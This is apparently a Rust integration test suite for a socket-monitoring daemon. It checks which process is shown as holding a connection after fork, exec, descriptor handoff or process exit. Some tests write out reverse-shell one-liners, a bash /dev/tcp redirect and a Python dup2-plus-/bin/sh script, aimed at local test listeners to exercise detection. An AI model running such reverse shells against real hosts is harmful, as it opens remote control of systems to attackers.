//! Who has a socket now: after the process that began it has ended, executed another program, or handed it over. The oracles are
//! `ss -p` and `/proc`.

use std::{
    fs,
    io::{Read as _, Write as _},
    net::{SocketAddr, TcpListener, TcpStream, UdpSocket},
    os::{fd::AsRawFd as _, unix::net::UnixStream},
    process::{Command, Stdio},
    thread,
};

use netconn_tests::{
    Daemon, Forked, Netns, Orphan, hand_over, kernel, long, moment, netconn, pause, received, step, until,
};
use nix::libc;
use serde_json::Value;

/// Returns the processes that have the sockets with a local port open, by `ss -tuanp`.
fn holders(namespace: &Netns, port: u16) -> Vec<(u32, String)> {
    let text = namespace.exec("ss", &["-tuanpH"]);
    let is_local = |line: &&str| line.split_whitespace().nth(4).is_some_and(|end| end.ends_with(&format!(":{port}")));
    let mut found: Vec<(u32, String)> = text
        .lines()
        .filter(is_local)
        // users:(("sh",pid=12,fd=0),("sh",pid=12,fd=1))
        .flat_map(|line| line.split("(\"").skip(1))
        .map(|user| {
            let (name, rest) = user.split_once("\",pid=").unwrap();
            (rest.split(',').next().unwrap().parse().unwrap(), name.to_owned())
        })
        .collect();
    found.sort();
    found.dedup();
    found
}

/// Returns the daemon's row of the socket with a local port, which must be the only one.
fn row(daemon: &Daemon, namespace: &Netns, port: u16) -> Value {
    let rows = daemon.list(namespace.inode);
    let mut found = rows.iter().filter(|row| row["local_port"] == port);
    let row = found.next().unwrap_or_else(|| panic!("port {port}: {rows:#?}")).clone();
    assert!(found.next().is_none(), "port {port}: {rows:#?}");
    row
}

/// Waits until the row of a socket has the one process that `ss` shows, which began as another one, and returns the row. Checks that
/// filters find it by the process that has it.
fn becomes_holder(daemon: &Daemon, namespace: &Netns, port: u16, originator: (u32, &str)) -> Value {
    let found = holders(namespace, port);
    let [(pid, name)] = &found[..] else { panic!("port {port}: {found:?}") };
    let now = || row(daemon, namespace, port);
    until(
        15_000,
        || format!("{pid} ({name}): {:#}", now()),
        || now()["pid"] == *pid && now()["process_name"] == **name,
    );
    let row = now();
    assert_eq!((&row["originator_pid"], &row["originator_process_name"]), (&originator.0.into(), &originator.1.into()));
    let count = |filter: &str| {
        let text = format!("/v1/connections?format=ndjson&namespace={}&{filter}", namespace.inode);
        daemon.rows(&text).iter().filter(|row| row["local_port"] == port).count()
    };
    assert_eq!((count(&format!("pid={pid}")), count(&format!("process={name}"))), (1, 1));
    if originator.0 != *pid {
        assert_eq!(count(&format!("pid={}", originator.0)), 0);
    }
    row
}

/// Reads a process id that a child has written.
fn read_pid(channel: &mut UnixStream) -> u32 {
    let mut pid = [0; 4];
    channel.read_exact(&mut pid).unwrap();
    u32::from_ne_bytes(pid)
}

/// Begins sockets in a process that ends, and leaves them to its child, which calls `goes_on` with them. Returns both processes: the
/// first has ended.
fn left_behind<T>(begin: impl FnOnce() -> T, goes_on: impl FnOnce(&T)) -> (u32, Orphan) {
    let mut first = Forked::new(|mut channel| {
        let held = begin();
        let child = Forked::new(|_| {
            goes_on(&held);
            // It lives until the test ends it; the time only limits its life if the test fails before.
            thread::sleep(long(60_000));
        });
        channel.write_all(&child.pid.to_ne_bytes()).unwrap();
        pause(&mut channel);
        // Dropping it would end the child.
        std::mem::forget(child);
    });
    let second = Orphan(read_pid(&mut first.channel));
    // Both processes of a row are known before the first ends.
    moment();
    first.go();
    let pid = first.pid;
    first.join();
    (pid, second)
}

/// Returns the name that a child of this thread has.
fn own_name() -> String {
    fs::read_to_string("/proc/thread-self/comm").unwrap().trim().to_owned()
}

fn port_of(address: SocketAddr) -> u16 {
    address.port()
}

#[test]
fn sockets_of_a_process_that_has_ended_are_of_whom_has_them_open() {
    // The storage of sockets does not outlive the daemon on 5.10: who began them is not known after a restart.
    if kernel() < (5, 11) {
        return;
    }
    let namespace = Netns::new();
    let daemon = Daemon::start();
    let (name, pids, ports) = namespace.run(|| {
        let name = own_name();
        let server = TcpListener::bind("127.0.0.1:0").unwrap();
        let echo = UdpSocket::bind("127.0.0.1:0").unwrap();
        let (to, udp_to) = (server.local_addr().unwrap(), echo.local_addr().unwrap());
        let ports = [40_001, 40_002, 40_003, 40_004];
        let (first, second) = left_behind(
            || {
                let connection = socket2::Socket::new(socket2::Domain::IPV4, socket2::Type::STREAM, None).unwrap();
                connection.bind(&SocketAddr::from(([127, 0, 0, 1], ports[0])).into()).unwrap();
                connection.connect(&to.into()).unwrap();
                let listener = TcpListener::bind(("127.0.0.1", ports[1])).unwrap();
                // One has a flow, the other is bound only.
                let flow = UdpSocket::bind(("127.0.0.1", ports[2])).unwrap();
                flow.connect(udp_to).unwrap();
                flow.send(&[1]).unwrap();
                let bound = UdpSocket::bind(("127.0.0.1", ports[3])).unwrap();
                (connection, listener, flow, bound)
            },
            |_| {},
        );
        let _accepted = server.accept().unwrap();
        for port in ports {
            let row = becomes_holder(&daemon, &namespace, port, (first, &name));
            assert_eq!((&row["pid"], &row["attribution"]), (&second.0.into(), &"scan".into()), "{row:#}");
        }
        // Everything is found by whom has it, the first process has nothing, and the next one finds who has it after a restart.
        (name, (first, second), ports)
    });
    let (first, second) = pids;
    let daemon = daemon.end().start();
    // An outgoing connection tells who began it: the kernel keeps that.
    let row = becomes_holder(&daemon, &namespace, ports[0], (first, &name));
    assert_eq!(row["attribution"], "scan");
    let second_pid = second.0;
    for port in &ports[1..] {
        let now = || self::row(&daemon, &namespace, *port);
        until(15_000, || format!("{second_pid}: {:#}", now()), || now()["pid"] == second_pid);
    }
    drop(second);
    moment();
    let events = daemon.stop().within(&namespace);
    let of = |kind: &str, port: u16| events.of(kind).with("local.port.number", port).one().clone();
    // Events name who connected.
    let close = of("IP Close", ports[0]);
    assert_eq!((&close["src.process.pid"], &close["src.process.attribution"]), (&first.into(), &"connect".into()));
    // Two: the second daemon found the connection and told it as one that was there before.
    let connects = events.of("IP Connect").with("local.port.number", ports[0]);
    assert_eq!(connects.with("src.process.pid", first).len(), connects.len(), "{connects:#?}");
    assert_eq!(of("IP Listen End", ports[1])["src.process.pid"], second_pid);
}

#[test]
fn a_child_that_goes_on_sending_has_its_flows() {
    let namespace = Netns::new();
    let daemon = Daemon::start();
    let (first, second) = namespace.run(|| {
        let (here, there) = (UdpSocket::bind("127.0.0.1:0").unwrap(), UdpSocket::bind("127.0.0.1:0").unwrap());
        let to = [&here, &there].map(|socket| socket.local_addr().unwrap());
        let (mut go, mut gone) = UnixStream::pair().unwrap();
        let begin = || {
            let socket = UdpSocket::bind("127.0.0.1:40005").unwrap();
            socket.send_to(&[1], to[0]).unwrap();
            socket
        };
        let (first, second) = left_behind(begin, |socket| {
            gone.read_exact(&mut [0]).unwrap();
            socket.send_to(&[2], to[1]).unwrap();
        });
        let rows = || daemon.list(namespace.inode);
        until(
            15_000,
            || format!("{:#?}", rows()),
            || {
                let rows = rows();
                let mut own = rows.iter().filter(|row| row["local_port"] == 40_005);
                own.clone().count() >= 2 && own.all(|row| row["pid"] == second.0)
            },
        );
        go.write_all(&[0]).unwrap();
        there.recv(&mut [0]).unwrap();
        (first, second)
    });
    moment();
    let second_pid = second.0;
    drop(second);
    moment();
    let events = daemon.stop().within(&namespace).of("IP Connect").with("local.port.number", 40_005);
    let mut pids: Vec<u64> = events
        .with("event.network.direction", "OUTGOING")
        .values("src.process.pid")
        .iter()
        .filter_map(Value::as_u64)
        .collect();
    pids.sort_unstable();
    let mut expected = [u64::from(first), u64::from(second_pid)];
    expected.sort_unstable();
    assert_eq!(pids, expected, "{events:#?}");
}

#[test]
fn a_descriptor_that_was_passed_on_is_of_whom_received_it() {
    let namespace = Netns::new();
    let daemon = Daemon::shared();
    namespace.run(|| {
        let name = own_name();
        let server = TcpListener::bind("127.0.0.1:0").unwrap();
        let to = server.local_addr().unwrap();
        let (here, there) = UnixStream::pair().unwrap();
        let mut receiver = Forked::new(|mut channel| {
            let _held = received(&there);
            step(&mut channel);
            pause(&mut channel);
        });
        let mut sender = Forked::new(|mut channel| {
            let stream = TcpStream::connect(to).unwrap();
            channel.write_all(&port_of(stream.local_addr().unwrap()).to_ne_bytes()).unwrap();
            hand_over(&here, &stream);
            pause(&mut channel);
        });
        let mut port = [0; 2];
        sender.channel.read_exact(&mut port).unwrap();
        receiver.wait();
        moment();
        sender.go();
        let pid = sender.pid;
        sender.join();
        let row = becomes_holder(daemon, &namespace, u16::from_ne_bytes(port), (pid, &name));
        assert_eq!(row["pid"], receiver.pid);
        receiver.go();
        receiver.join();
    });
}

#[test]
fn a_process_that_executes_another_program_keeps_its_sockets() {
    let namespace = Netns::new();
    let daemon = Daemon::shared();
    let (server, to) = namespace.run(|| {
        let server = TcpListener::bind("127.0.0.1:0").unwrap();
        let to = port_of(server.local_addr().unwrap());
        (server, to)
    });
    // A reverse shell in one line, as an attacker types it.
    let script = format!("exec 3<>/dev/tcp/127.0.0.1/{to}; exec head -c 1 - 2>/dev/null");
    let mut process = namespace.command("bash", &["-c", &script]).stdin(Stdio::piped()).spawn().unwrap();
    let (accepted, from) = server.accept().unwrap();
    let row = becomes_holder(daemon, &namespace, port_of(from), (process.id(), "bash"));
    assert_eq!(row["pid"], process.id());
    let executable = fs::read_link(format!("/proc/{}/exe", process.id())).unwrap();
    assert_eq!(row["executable"].as_str(), executable.to_str());
    assert_eq!(row["command_line"], "head -c 1 -");
    assert!(row["originator_executable"].as_str().unwrap().ends_with("/bash"), "{row:#}");
    assert!(row["originator_command_line"].as_str().unwrap().contains("/dev/tcp/"), "{row:#}");
    process.stdin.take().unwrap().write_all(b"x").unwrap();
    process.wait().unwrap();
    drop(accepted);
    moment();
    let close =
        daemon.events().within(&namespace).of("IP Close").with("local.port.number", port_of(from)).one().clone();
    assert_eq!(close["src.process.name"], "bash", "events name who connected");
}

#[test]
fn a_reverse_shell_is_of_the_shell_not_of_the_script_that_has_ended() {
    if Command::new("python3").arg("-V").output().is_err() {
        eprintln!("skipped: there is no python3");
        return;
    }
    let namespace = Netns::new();
    let daemon = Daemon::shared();
    let (server, to) = namespace.run(|| {
        let server = TcpListener::bind("127.0.0.1:0").unwrap();
        let to = port_of(server.local_addr().unwrap());
        (server, to)
    });
    let script = format!(
        "import os, socket, subprocess, time\ns = socket.create_connection(('127.0.0.1', {to}))\n\
         for fd in range(3): os.dup2(s.fileno(), fd)\nsubprocess.Popen(['/bin/sh'])\ntime.sleep(0.2)\n"
    );
    let mut python = namespace.command("python3", &["-c", &script]).stdin(Stdio::null()).spawn().unwrap();
    let pid = python.id();
    let (mut shell, from) = server.accept().unwrap();
    python.wait().unwrap();
    let name = || row(daemon, &namespace, port_of(from))["originator_process_name"].clone();
    let found = holders(&namespace, port_of(from));
    assert_eq!(found.len(), 1, "{found:?}");
    until(15_000, || format!("{found:?}"), || name() != Value::Null);
    let python_name = name().as_str().unwrap().to_owned();
    assert!(python_name.starts_with("python"), "{python_name}");
    let row = becomes_holder(daemon, &namespace, port_of(from), (pid, &python_name));
    assert!(["sh", "dash", "bash"].contains(&row["process_name"].as_str().unwrap()), "{row:#}");
    shell.write_all(b"exit\n").unwrap();
}

/// Returns the descriptors of a socket by pid and number, and the inode, of `/proc`.
fn descriptors(pids: &[u32], inode: u64) -> Vec<(u64, u64)> {
    let mut found = Vec::new();
    for pid in pids {
        for entry in fs::read_dir(format!("/proc/{pid}/fd")).unwrap().flatten() {
            if fs::read_link(entry.path()).is_ok_and(|link| link.to_str() == Some(&format!("socket:[{inode}]"))) {
                found.push((u64::from(*pid), entry.file_name().to_str().unwrap().parse().unwrap()));
            }
        }
    }
    found.sort_unstable();
    found
}

/// Returns inode and holders of a row.
fn listed(row: &Value) -> (u64, Vec<(u64, u64)>) {
    let holders = row["holders"].as_array().unwrap_or_else(|| panic!("{row:#}"));
    assert_eq!(row["holder_count"], holders.len());
    let ends = |holder: &Value| (holder["pid"].as_u64().unwrap(), holder["fd"].as_u64().unwrap());
    (row["inode"].as_u64().unwrap(), holders.iter().map(ends).collect())
}

#[test]
fn all_holders_of_a_socket_are_listed_with_and_without_a_daemon() {
    let namespace = Netns::new();
    let daemon = Daemon::shared();
    namespace.run(|| {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let bound = UdpSocket::bind("127.0.0.1:0").unwrap();
        let connection = TcpStream::connect(listener.local_addr().unwrap()).unwrap();
        let ports =
            [listener.local_addr(), bound.local_addr(), connection.local_addr()].map(|end| port_of(end.unwrap()));
        let inodes = [listener.as_raw_fd(), bound.as_raw_fd(), connection.as_raw_fd()].map(|descriptor| {
            let link = fs::read_link(format!("/proc/self/fd/{descriptor}")).unwrap();
            let link = link.to_str().unwrap().trim_start_matches("socket:[").trim_end_matches(']').to_owned();
            link.parse::<u64>().unwrap()
        });
        let child = Forked::new(|mut channel| {
            let _second = connection.try_clone().unwrap();
            step(&mut channel);
            pause(&mut channel);
        });
        let pids = [std::process::id(), child.pid];
        let mut child = child;
        child.wait();
        let check = |rows: &[Value], by: &str| {
            for (port, inode) in ports.iter().zip(inodes) {
                let is_it = |row: &&Value| row["local_port"] == *port && row["state"] != "TIME_WAIT";
                let row = rows.iter().find(|row| is_it(row) && row["inode"] == inode);
                let row = row.unwrap_or_else(|| panic!("{by}: {port}, {inode}: {rows:#?}"));
                let (found, holders) = listed(row);
                // Other tests of this program may fork meanwhile: their children have the test's descriptors, too.
                let own = holders.into_iter().filter(|(pid, _)| pids.map(u64::from).contains(pid)).collect::<Vec<_>>();
                assert_eq!((found, own), (inode, descriptors(&pids, inode)), "{by}");
            }
        };
        check(
            &daemon.rows(&format!("/v1/connections?format=ndjson&holders=true&namespace={}", namespace.inode)),
            "daemon",
        );
        let rows = |command: &mut Command| -> Vec<Value> {
            let output = command.output().unwrap();
            assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
            String::from_utf8(output.stdout).unwrap().lines().map(|line| serde_json::from_str(line).unwrap()).collect()
        };
        let own = netconn();
        let arguments = ["list", "--holders", "--format", "ndjson", "--namespace", &namespace.inode.to_string()];
        check(&rows(Command::new(&own).args(arguments)), "iterators");
        // Without privileges, in the namespace itself: what a user may see is its own.
        let script =
            format!("exec 3<>/dev/tcp/127.0.0.1/{}; {} list --holders --format ndjson; true", ports[0], own.display());
        let arguments = ["--reuid", "65534", "--clear-groups", "bash", "-c", &script];
        let found = rows(&mut namespace.command("setpriv", &arguments));
        let holds = |row: &&Value, name: &str| {
            let mut all = row["holders"].as_array().into_iter().flatten();
            all.any(|holder| holder["process_name"] == name && holder["fd"] == 3)
        };
        let of_user = found.iter().filter(|row| row["remote_port"] == ports[0]).find(|row| holds(row, "bash"));
        let of_user = of_user.unwrap_or_else(|| panic!("{found:#?}"));
        assert!(holds(&of_user, "netconn") && of_user["inode"].is_u64(), "{of_user:#}");
        let table = daemon.text(&["list", "--holders", "--no-header", "--namespace", &namespace.inode.to_string()]);
        for pid in pids {
            assert!(table.contains(&format!("({pid}) fd ")), "{table}");
        }
        let without = &daemon.list(namespace.inode)[0];
        assert!(without["holders"].is_null() && without["inode"].is_null(), "{without:#}");
        child.go();
        child.join();
    });
}

#[test]
fn the_title_that_a_process_gives_itself_is_shown_beside_its_arguments() {
    let namespace = Netns::new();
    let daemon = Daemon::shared();
    namespace.run(|| {
        let long = "x".repeat(6000);
        // bash sets no title; a program that was started with another first argument than its name shows one from the start. The
        // second command line is longer than a record has room for.
        let (server, port) = {
            let server = TcpListener::bind("127.0.0.1:0").unwrap();
            let port = port_of(server.local_addr().unwrap());
            (server, port)
        };
        let script = format!("exec 3<>/dev/tcp/127.0.0.1/{port}; read; exit 0");
        let mut process = Command::new("bash").args(["-c", &script, &long]).stdin(Stdio::piped()).spawn().unwrap();
        let (_accepted, from) = server.accept().unwrap();
        let shown = || row(daemon, &namespace, port_of(from));
        let expected = fs::read(format!("/proc/{}/cmdline", process.id())).unwrap();
        let expected = String::from_utf8(expected).unwrap().trim_end_matches('\0').replace('\0', " ");
        assert!(expected.len() > 6000);
        assert_eq!(shown()["command_line"], expected, "whole, although the record is cut");
        assert!(shown()["title"].is_null());
        // A fork that has another title than the program it is a fork of: `PR_SET_MM_ARG_START` is what setproctitle does without
        // room. The end first, because it must not be before the start.
        let titled = Forked::new(|mut channel| {
            let held = TcpStream::connect(("127.0.0.1", port)).unwrap();
            let title = Box::leak(Box::new(*b"worker: busy\0"));
            let (start, end) = (title.as_ptr() as u64, title.as_ptr() as u64 + 13);
            for (option, address) in [(libc::PR_SET_MM_ARG_START, start), (libc::PR_SET_MM_ARG_END, end)] {
                // SAFETY: the kernel only notes where the arguments are; they are not freed before the process ends.
                unsafe { libc::prctl(libc::PR_SET_MM, option, address, 0, 0) };
            }
            channel.write_all(&port_of(held.local_addr().unwrap()).to_ne_bytes()).unwrap();
            pause(&mut channel);
        });
        let mut titled = titled;
        let mut own = [0; 2];
        titled.channel.read_exact(&mut own).unwrap();
        let oracle = fs::read(format!("/proc/{}/cmdline", titled.pid)).unwrap();
        let found = row(daemon, &namespace, u16::from_ne_bytes(own));
        if oracle == b"worker: busy\0" {
            assert_eq!(found["title"], "worker: busy", "{found:#}");
        } else {
            eprintln!("the kernel refused the title: {}", String::from_utf8_lossy(&oracle));
        }
        assert!(found["command_line"].as_str().unwrap().contains("holders"), "{found:#}");
        // Not by the end of its input, which the fork has open too.
        process.kill().unwrap();
        process.wait().unwrap();
        titled.go();
        titled.join();
    });
}

#[test]
fn command_lines_of_events_are_as_long_as_the_configuration_says_and_those_of_lists_whole() {
    let namespace = Netns::new();
    let daemon = Daemon::start_configured("command_line_bytes = 100");
    let (expected, own) = namespace.run(|| {
        let server = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = port_of(server.local_addr().unwrap());
        let script = format!("exec 3<>/dev/tcp/127.0.0.1/{port}; read; exit 0");
        let long = "é".repeat(60);
        let mut process = Command::new("bash").args(["-c", &script, &long]).stdin(Stdio::piped()).spawn().unwrap();
        let (_accepted, from) = server.accept().unwrap();
        let expected = fs::read(format!("/proc/{}/cmdline", process.id())).unwrap();
        let expected = String::from_utf8(expected).unwrap().trim_end_matches('\0').replace('\0', " ");
        assert_eq!(row(&daemon, &namespace, port_of(from))["command_line"], expected, "whole while it lives");
        drop(process.stdin.take());
        process.wait().unwrap();
        (expected, port_of(from))
    });
    let events = daemon.stop().within(&namespace).of("IP Connect").with("event.network.direction", "OUTGOING");
    let kept = events.with("src.port.number", own).one()["src.process.cmdline"].as_str().unwrap().to_owned();
    let beginning = kept.strip_suffix('…').unwrap();
    assert!(expected.starts_with(beginning) && [99, 100].contains(&beginning.len()), "{kept}");
}

#[test]
fn a_socket_without_a_process_has_its_user() {
    let namespace = Netns::new();
    // Sent and not received: no process has it open.
    let (here, there) = UnixStream::pair().unwrap();
    let (port, _server) = namespace.run(|| {
        let server = TcpListener::bind("127.0.0.1:0").unwrap();
        let to = server.local_addr().unwrap();
        let mut child = Forked::new(|mut channel| {
            // SAFETY: no pointers; the child has one thread.
            unsafe { libc::setresuid(65_534, 65_534, 65_534) };
            let stream = TcpStream::connect(to).unwrap();
            channel.write_all(&port_of(stream.local_addr().unwrap()).to_ne_bytes()).unwrap();
            hand_over(&here, &stream);
        });
        let mut port = [0; 2];
        child.channel.read_exact(&mut port).unwrap();
        child.join();
        (u16::from_ne_bytes(port), server)
    });
    let oracle = namespace.exec("ss", &["-tanpeH"]);
    // By the local end: the other end of the connection is a line too.
    let is_local = |line: &&str| line.split_whitespace().nth(3).is_some_and(|end| end.ends_with(&format!(":{port}")));
    let line = oracle.lines().find(is_local).unwrap();
    assert!(line.contains("uid:65534") && !line.contains("pid="), "{line}");
    let daemon = Daemon::start();
    let row = row(&daemon, &namespace, port);
    assert_eq!((&row["user_id"], &row["attribution"]), (&65_534.into(), &"unknown".into()), "{row:#}");
    assert!(row["pid"].is_null(), "{row:#}");
    let text = format!("/v1/connections?format=ndjson&user=65534&namespace={}", namespace.inode);
    assert_eq!(daemon.rows(&text).len(), 1);
    let alone = Command::new(netconn())
        .args(["list", "--format", "ndjson", "--user", "65534", "--namespace", &namespace.inode.to_string()])
        .output()
        .unwrap();
    assert_eq!(String::from_utf8(alone.stdout).unwrap().lines().count(), 1);
    let events = daemon.stop().within(&namespace).of("IP Connect").with("local.port.number", port);
    let connect = events.one();
    assert_eq!(connect["src.process.userId"], 65_534, "{connect:#}");
    assert!(connect["src.process.pid"].is_null(), "{connect:#}");
    drop(there);
}
